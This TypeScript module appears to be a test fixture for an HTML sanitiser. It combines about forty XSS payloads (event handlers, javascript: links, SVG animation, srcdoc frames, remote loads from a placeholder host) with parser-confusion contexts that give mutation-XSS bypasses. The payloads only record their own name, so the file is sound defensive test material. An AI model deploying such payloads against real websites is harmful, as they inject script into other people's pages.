/** Attacks on a sanitiser, put together: everything that runs or loads by itself, in every place where a browser reads markup differently from what it looks like. */

export interface MarkupAttack {
  readonly name: string
  readonly html: string
}

/** No such host exists; whatever is asked of it was asked by an attack. */
export const ATTACK_HOST = 'attack.invalid'

/** Every attack once in every place; whatever runs adds the attack's name to `ran` of the top window. */
export function markupAttacks(): readonly MarkupAttack[] {
  return Object.entries(PLACES).flatMap(([place, around]) =>
    Object.entries(PAYLOADS).map(([payload, html]) => {
      const name = `${payload} in ${place}`
      // Without quotes, so that it fits into any attribute.
      const code = `(top.ran=top.ran||[]).push(/${name}/.source)`
      return { name, html: around(html.replaceAll('RUN', code).replaceAll('HOST', ATTACK_HOST)) }
    }),
  )
}

const PAYLOADS: Readonly<Record<string, string>> = {
  'script element': '<script>RUN</script>',
  'script of a host': '<script src="http://HOST/script"></script>',
  'picture that fails': '<img src=x: onerror="RUN">',
  'picture without quotes': '<img/src=x:/onerror=RUN>',
  'drawing that loads': '<svg onload="RUN"></svg>',
  'script of a drawing': '<svg><script>RUN</script></svg>',
  'animation of a drawing': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
  'link set by a drawing':
    '<svg><a id="x"><set attributeName="href" to="javascript:RUN"/><text>t</text></a></svg>',
  'link of a drawing': '<svg><a xlink:href="javascript:RUN"><text>t</text></a></svg>',
  'picture of a drawing': '<svg><image href="http://HOST/image"/></svg>',
  'drawing from elsewhere': '<svg><use href="http://HOST/use#x"/></svg>',
  'opened details': '<details open ontoggle="RUN"><summary>s</summary>d</details>',
  'frame with a document': `<iframe srcdoc="<script>RUN</script>"></iframe>`,
  'frame with a script address': '<iframe src="javascript:RUN"></iframe>',
  'frame of a host': '<iframe src="http://HOST/frame"></iframe>',
  object: '<object data="http://HOST/object"></object>',
  embed: '<embed src="http://HOST/embed">',
  'focused field': '<input autofocus onfocus="RUN">',
  'field that is a picture': '<input type="image" src="http://HOST/input">',
  film: '<video src="http://HOST/video" poster="http://HOST/poster" autoplay></video>',
  'film that fails': '<video><source src="x:" onerror="RUN"></video>',
  'sound that fails': '<audio src="x:" onerror="RUN"></audio>',
  'running line': '<marquee onstart="RUN">m</marquee>',
  'style that loads': '<style onload="RUN"></style>',
  'style of a host':
    '<style>@import url(http://HOST/import); * { background: url(http://HOST/background) }</style>',
  'style attribute': '<p style="background:url(http://HOST/style)">p</p>',
  'style sheet': '<link rel="stylesheet" href="http://HOST/sheet">',
  'style animation': '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">p</p>',
  'body that loads': '<body onload="RUN" background="http://HOST/body">',
  'background of a table':
    '<table background="http://HOST/table"><tr><td background="http://HOST/cell">x</table>',
  'link with a script': '<a href="javascript:RUN">link</a>',
  'link with a hidden script': '<a href=" java&#9;script&colon;RUN">link</a>',
  'link of a formula': '<math href="javascript:RUN"><mi>x</mi></math>',
  'button with a script': '<form><button formaction="javascript:RUN">b</button></form>',
  'form with a script': '<form action="javascript:RUN"><button>b</button></form>',
  refresh: '<meta http-equiv="refresh" content="0;url=http://HOST/refresh">',
  base: '<base href="http://HOST/base/"><link rel="icon" href="icon">',
}

const fold =
  (before: string, after = '') =>
  (html: string) =>
    before + html + after
const inAttribute = (before: string) => (html: string) => `${before}${html.replaceAll('"', '&quot;')}">`

const PLACES: Readonly<Record<string, (html: string) => string>> = {
  'plain sight': fold(''),
  'a paragraph': fold('<p>before ', ' after</p>'),
  'a table': fold('<table>', '<tr><td>x</td></tr></table>'),
  'a choice': fold('<select><option>o</option>', '</select>'),
  'a form in a formula': fold(
    '<form><math><mtext></form><form><mglyph><style></math>',
    '</style></mglyph></form>',
  ),
  'a style in a formula': fold(
    '<math><mtext><table><mglyph><style><!--</style>',
    '--></style></mglyph></table></mtext></math>',
  ),
  'a title in a formula': fold('<math><mtext><mglyph><title>', '</title></mglyph></mtext></math>'),
  'a noted formula': fold('<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'),
  'a style in a drawing': fold('<svg><style>', '</style></svg>'),
  'text of a drawing': fold('<svg><desc>', '</desc><title>t</title></svg>'),
  'foreign parts of a drawing': fold('<svg><foreignObject>', '</foreignObject></svg>'),
  'character data of a drawing': fold('<svg><![CDATA[><p title="]]>', '"></svg>'),
  'an attribute after a drawing': inAttribute('<svg></p><style><a id="</style>'),
  'an attribute without scripts': inAttribute('<noscript><p title="</noscript>'),
  'an attribute of shown markup': inAttribute('<xmp><p title="</xmp>'),
  'an attribute in a frame': inAttribute('<iframe><p title="</iframe>'),
  'an attribute in a text field': inAttribute('<textarea><p title="</textarea>'),
  'an attribute that ends early': fold('<p title="x">', '">'),
  'a title': fold('<title><p title="</title>', '"></p></title>'),
  'a template': fold('<template>', '</template>'),
  'a comment that ends early': fold('<!-->', '-->'),
  'a comment that ends oddly': fold('<!-- x --!>', '<!-- -->'),
  'what older browsers show': fold(
    '<noembed></noembed><noframes></noframes><noframes><p title="</noframes>',
    '"></noframes>',
  ),
  'formatting left open': fold('<b><table><a href="x"><i>', '<td></b></a></i>'),
  depth: fold('<div>'.repeat(600), '</div>'.repeat(600)),
}
